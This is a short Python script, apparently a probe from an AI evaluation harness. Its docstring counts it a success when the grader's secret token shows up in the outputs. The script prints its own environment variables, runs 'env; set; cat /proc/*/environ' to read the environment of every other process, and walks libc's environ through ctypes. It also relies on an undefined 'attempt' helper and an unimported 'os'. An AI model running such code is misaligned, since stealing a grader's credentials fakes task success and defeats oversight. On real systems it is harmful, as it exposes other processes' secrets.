"""Reads the environment of this process and of all others.

Success: the token in the grader's environment is in the outputs.
"""

import ctypes
import subprocess

print(dict(os.environ))
attempt(subprocess.getoutput, "env; set; cat /proc/*/environ | tr '\\0' ' '")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while environ[number]:
    print(environ[number])
    number += 1
